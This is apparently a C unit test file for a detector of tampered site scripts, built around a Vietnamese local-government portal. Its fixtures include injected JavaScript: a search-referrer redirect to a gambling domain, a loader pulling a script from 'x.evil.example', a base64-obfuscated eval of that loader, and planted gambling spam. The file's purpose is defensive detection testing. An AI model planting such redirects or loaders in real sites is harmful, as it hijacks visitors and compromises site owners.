/* The judge of pages on the scripts that they load from their own site: an intruder's code in one
 * is told, what its owners and its vendors bring is not, on a page that is word for word what it
 * was. */
#include "harness.h"

#include "base/buf.h"
#include "base/time.h"
#include "detect/deface/deface.h"

#include <stdio.h>

#define SCRIPT "https://xa.gov.vn/js/kho.js"
#define REDIRECT                                                                                   \
    "if(/google|bing/.test(document.referrer))location.href='https://nhacai.example/?x';"
#define DAY_NS (24 * 3600 * NS_PER_S)

#define PORTAL                                                                                     \
    "<!doctype html><html lang=vi><head><title>Cổng thông tin xã An Hòa</title>"                   \
    "<script src=/js/kho.js></script></head><body><h1>UBND xã An Hòa</h1><main><p>Sáng nay, Ủy "   \
    "ban nhân dân xã đã tổ chức hội nghị triển khai nhiệm vụ công tác quý tới.</p><p>Lịch tiếp "   \
    "công dân định kỳ vào thứ năm hằng tuần tại trụ sở xã.</p>%s</main></body></html>"

struct world {
    struct deface_model *model;
    struct deface_site *site;
    struct deface_profile *profile;
    struct arena *arena;
    struct buf kept;
    int64_t time;
};

static void world_open(struct world *world)
{
    *world = (struct world){.time = 1700000000 * NS_PER_S};
    assert_int_equal(deface_model_new(NULL, &world->model), 0);
    assert_int_equal(deface_site_new(&world->site), 0);
    assert_int_equal(deface_profile_new(&world->profile), 0);
    assert_int_equal(arena_new(PAGE_ARENA_MAX, &world->arena), 0);
    buf_init(&world->kept, SCRIPTS_SIZE_MAX);
}

static void world_close(struct world *world)
{
    deface_model_free(world->model);
    deface_site_free(world->site);
    deface_profile_free(world->profile);
    arena_free(world->arena);
    buf_done(&world->kept);
}

/* A library of so many functions; insert: put into its middle. */
static const char *library(unsigned version, const char *insert)
{
    static struct buf buf;

    buf_done(&buf);
    buf_init(&buf, 1 << 20);
    for (unsigned i = 0; i < 200; i++) {
        (void)buf_putf(&buf, "t.f%u=function(a,b){return a.x%u>b?a[\"k%u\"](b+%u):/v%u/};",
                       i * version, i * version, version, i, i % (version + 3));
        (void)buf_put_text(&buf, i == 100 ? insert : "");
    }
    return buf.ptr;
}

/* One look, for which the script came as it is now (NULL: it was not asked for). */
static struct deface_verdict see(struct world *world, const char *url, const char *script,
                                 const char *news, bool is_own_change)
{
    static struct deface_scripts scripts;
    const struct page_options options = {.url = STR("https://xa.gov.vn/")};
    struct deface_look look = {.status = 200, .scripts = &scripts, .is_own_change = is_own_change};
    struct deface_verdict verdict;
    struct page page;
    struct str body;

    arena_reset(world->arena);
    look.time = world->time += DAY_NS / 4;
    body = arena_printf(world->arena, PORTAL, news);
    assert_int_equal(page_read(&options, body, world->arena, &page), 0);
    look.page = &page;
    assert_int_equal(deface_scripts_open(arena_copy(world->arena, buf_str(&world->kept)),
                                         world->arena, &scripts),
                     0);
    if (script != NULL) {
        assert_int_equal(deface_scripts_take(&scripts, str_from(url), str_from(script), look.time),
                         0);
    }
    assert_int_equal(deface_scripts_link(&scripts, str_from(url), look.time), SCRIPT_KNOWN);
    assert_int_equal(
        deface_judge(world->model, world->site, world->profile, &look, world->arena, &verdict), 0);
    assert_int_equal(deface_learn(world->site, world->profile, &look, &verdict), 0);
    buf_reset(&world->kept);
    deface_scripts_encode(&scripts, &world->kept);
    assert_int_equal(buf_error(&world->kept), 0);
    return verdict;
}

static bool is_quiet(const struct deface_verdict *verdict)
{
    return verdict->verdict == SITE_VERDICT_OK || verdict->verdict == SITE_VERDICT_CHANGED;
}

static bool tells_code(const struct deface_verdict *verdict, const char *value)
{
    for (size_t i = 0; i < verdict->reason_count; i++) {
        if (str_is_text(verdict->reasons[i].what, "script_code")) {
            return value == NULL || str_find(verdict->reasons[i].value, str_from(value)) !=
                                        verdict->reasons[i].value.len;
        }
    }
    return false;
}

static void world_learn(struct world *world)
{
    for (unsigned i = 0; i < DEFACE_LEARN_LOOKS; i++) {
        struct deface_verdict verdict = see(world, SCRIPT, library(1, ""), "", false);

        assert_true(is_quiet(&verdict));
    }
}

static void test_what_is_told(void **state)
{
    static const struct {
        const char *code;
        const char *value; /* NULL: it is quiet */
    } rows[] = {
        {REDIRECT, "kho.js +"},
        {REDIRECT, " nhacai.example"},
        {"var s=document.createElement('script');s.src='//x.evil.example/a.js';",
         " x.evil.example"},
        {"eval(atob('"
         "dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9Jy8vZXZpbC5leGFtcGxlL2"
         "EuanMnOw=='));",
         "kho.js +"},
        {"t.menu=function(a){a.style.display='block'};", NULL},
        {"t.map='https://maps.google.com/';t.dvc='https://dichvucong.gov.vn/';", NULL},
        {"t.phone=/iPhone/.test(navigator.userAgent);location.href='/m/';", NULL},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        struct deface_verdict verdict;
        struct world world;

        world_open(&world);
        world_learn(&world);
        verdict = see(&world, SCRIPT, library(1, rows[i].code), "", false);
        if (rows[i].value == NULL
                ? !is_quiet(&verdict) || tells_code(&verdict, NULL)
                : verdict.verdict != SITE_VERDICT_YELLOW || !tells_code(&verdict, rows[i].value)) {
            fail_msg("%s: verdict %d", rows[i].code, (int)verdict.verdict);
        }
        world_close(&world);
    }
}

/* As long as it stands there it is told, also by looks that did not fetch it; no longer when it is
 * gone, or when its owners say that it is theirs. */
static void test_it_stays_until_somebody_answers(void **state)
{
    struct deface_verdict verdict;
    struct world world;

    (void)state;
    world_open(&world);
    world_learn(&world);
    verdict = see(&world, SCRIPT, library(1, REDIRECT), "", false);
    assert_int_equal(verdict.verdict, SITE_VERDICT_YELLOW);
    assert_true(verdict.needs_confirmation);
    for (unsigned i = 0; i < 60; i++) {
        verdict = see(&world, SCRIPT, NULL, "", false);
        assert_int_equal(verdict.verdict, SITE_VERDICT_YELLOW);
    }
    verdict = see(&world, SCRIPT, library(1, ""), "", false);
    assert_true(is_quiet(&verdict));
    verdict = see(&world, SCRIPT, library(1, REDIRECT), "", true);
    assert_true(is_quiet(&verdict));
    verdict = see(&world, SCRIPT, library(1, REDIRECT), "", false);
    assert_true(is_quiet(&verdict));
    world_close(&world);
}

static void test_a_new_version_is_no_news(void **state)
{
    struct deface_verdict verdict;
    struct world world;

    (void)state;
    world_open(&world);
    world_learn(&world);
    verdict = see(&world, SCRIPT "?v=2", library(2, ""), "", false);
    assert_true(is_quiet(&verdict) && !tells_code(&verdict, NULL));
    verdict = see(&world, SCRIPT "?v=2", library(2, REDIRECT), "", false);
    assert_int_equal(verdict.verdict, SITE_VERDICT_YELLOW);
    world_close(&world);
}

/* Only an independent layer makes it red. */
static void test_with_another_layer_it_is_red(void **state)
{
    static const char planted[] =
        "<p>Nhà cái uy tín số 1 Việt Nam, nổ hũ đổi thưởng, đăng ký nhận ngay 88k, nạp rút siêu "
        "tốc, "
        "cá cược bóng đá <a href=https://nhacai.example/>link vào nhà cái</a></p>";
    struct deface_verdict verdict;
    struct world world;

    (void)state;
    world_open(&world);
    world_learn(&world);
    verdict = see(&world, SCRIPT, library(1, REDIRECT), planted, false);
    assert_int_equal(verdict.verdict, SITE_VERDICT_RED);
    assert_true(tells_code(&verdict, NULL));
    world_close(&world);
}

/* What is another each time it is fetched has no version to compare with. */
static void test_one_that_is_never_the_same(void **state)
{
    struct world world;
    char code[128];

    (void)state;
    world_open(&world);
    for (unsigned i = 0; i < DEFACE_LEARN_LOOKS; i++) {
        struct deface_verdict verdict;

        (void)snprintf(code, sizeof(code), "t.ad%u='https://ad%u.example/';", i, i);
        verdict = see(&world, SCRIPT, library(1, code), "", false);
        assert_true(is_quiet(&verdict));
    }
    world_close(&world);
}

/* What a program hands out by its query is as many scripts; two versions on one page are one. */
static void test_names_of_scripts(void **state)
{
    static const char *const urls[] = {"https://xa.gov.vn/ScriptResource.axd?d=a",
                                       "https://xa.gov.vn/ScriptResource.axd?d=b", SCRIPT "?v=1"};
    static struct deface_scripts scripts;
    struct world world;

    (void)state;
    world_open(&world);
    assert_int_equal(deface_scripts_open(STR(""), world.arena, &scripts), 0);
    for (size_t i = 0; i < sizeof(urls) / sizeof(urls[0]); i++) {
        assert_int_equal(
            deface_scripts_take(&scripts, str_from(urls[i]), str_from(urls[i]), DAY_NS), 0);
    }
    assert_int_equal(scripts.count, 3);
    assert_int_equal(deface_scripts_link(&scripts, STR(SCRIPT "?v=2"), DAY_NS), SCRIPT_WANTED);
    assert_int_equal(deface_scripts_link(&scripts, STR(SCRIPT "?v=1"), DAY_NS), SCRIPT_KNOWN);
    assert_int_equal(deface_scripts_link(&scripts, STR(SCRIPT "?v=2"), DAY_NS), SCRIPT_NO_ROOM);
    world_close(&world);
}

static void test_more_scripts_than_are_kept(void **state)
{
    static struct deface_scripts scripts;
    struct world world;
    struct buf buf;
    char url[64];

    (void)state;
    world_open(&world);
    buf_init(&buf, SCRIPTS_SIZE_MAX);
    assert_int_equal(deface_scripts_open(STR(""), world.arena, &scripts), 0);
    for (unsigned i = 0; i < SCRIPTS_MAX; i++) {
        (void)snprintf(url, sizeof(url), "https://xa.gov.vn/%u.js", i);
        assert_int_equal(deface_scripts_link(&scripts, str_from(url), DAY_NS), SCRIPT_WANTED);
        assert_int_equal(
            deface_scripts_take(&scripts, str_from(url), str_from(library(1, "")), DAY_NS), 0);
        assert_int_equal(deface_scripts_take(&scripts, str_from(url),
                                             str_from(library(i + 2, REDIRECT)), DAY_NS),
                         0);
    }
    assert_int_equal(deface_scripts_link(&scripts, STR("https://xa.gov.vn/x.js"), DAY_NS),
                     SCRIPT_NO_ROOM);
    scripts.items[0].is_linked = false;
    assert_int_equal(deface_scripts_link(&scripts, STR("https://xa.gov.vn/x.js"), 30 * DAY_NS),
                     SCRIPT_WANTED);
    deface_scripts_encode(&scripts, &buf);
    assert_int_equal(buf_error(&buf), 0);
    assert_int_equal(deface_scripts_open(buf_str(&buf), world.arena, &scripts), 0);
    assert_int_equal(scripts.count, SCRIPTS_MAX);
    for (size_t cut = 1; cut < buf.len; cut += 97) {
        assert_true(deface_scripts_open(str_slice(buf_str(&buf), 0, cut), world.arena, &scripts) <
                    0);
    }
    buf_done(&buf);
    world_close(&world);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_what_is_told),
        cmocka_unit_test(test_it_stays_until_somebody_answers),
        cmocka_unit_test(test_a_new_version_is_no_news),
        cmocka_unit_test(test_with_another_layer_it_is_red),
        cmocka_unit_test(test_one_that_is_never_the_same),
        cmocka_unit_test(test_names_of_scripts),
        cmocka_unit_test(test_more_scripts_than_are_kept),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
